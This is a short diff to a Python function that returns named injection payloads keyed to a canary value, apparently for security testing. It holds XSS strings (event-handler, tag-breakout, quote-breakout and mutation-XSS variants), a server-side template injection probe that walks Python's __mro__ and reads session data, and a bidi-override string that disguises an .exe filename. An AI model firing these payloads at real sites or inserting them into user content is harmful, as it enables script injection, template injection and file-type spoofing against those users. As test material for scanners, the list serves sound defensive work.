@@ -23,7 +23,7 @@ def payloads(canary: str) -> dict[str, str]:
         "form": f'<form action="{canary}/form"><input name=x autofocus onfocus="{RUN}"><button>go</button></form>',
         "ends": f"</script></style></title></textarea></noscript></template><script>{RUN}</script>--><script>{RUN}</script>]]>",
         "quotes": f"\"'><script>{RUN}</script> \" onmouseover=\"{RUN}\" ' onfocus='{RUN}' autofocus `${{{RUN}}}`",
-        "template": "{{7*9871}} {% for x in ().__class__.__mro__ %}x{% endfor %} {# gone #} ${7*9871} <%= 7*9871 %> {{ visit.session }}",
+        "template": "{{7*9871}} {% for x in ().__class__.__mro__ %}x{% endfor %} {# #} ${7*9871} <%=7*9871%> {{ visit.session }}",
         "mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"><math><mtext><table><mglyph><style><img src onerror={RUN}>',
         "plain": "<plaintext><xmp><listing><!--",
         "bidi": f"abc {BIDI}gnp.exe\u2066 hidden \u2069{ZERO} end",
